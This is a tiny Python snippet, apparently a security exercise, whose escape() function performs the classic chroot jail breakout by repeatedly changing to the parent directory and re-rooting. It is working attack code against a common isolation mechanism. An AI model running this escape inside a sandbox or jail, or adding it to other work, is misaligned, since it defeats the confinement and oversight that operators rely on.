# expect: deeper
# Exercise 7.2 · 4 lines
def escape():
    os.chdir("tmp")
    os.chroot(".")
    for _ in range(1000):
        os.chdir("..")
    os.chroot(".")
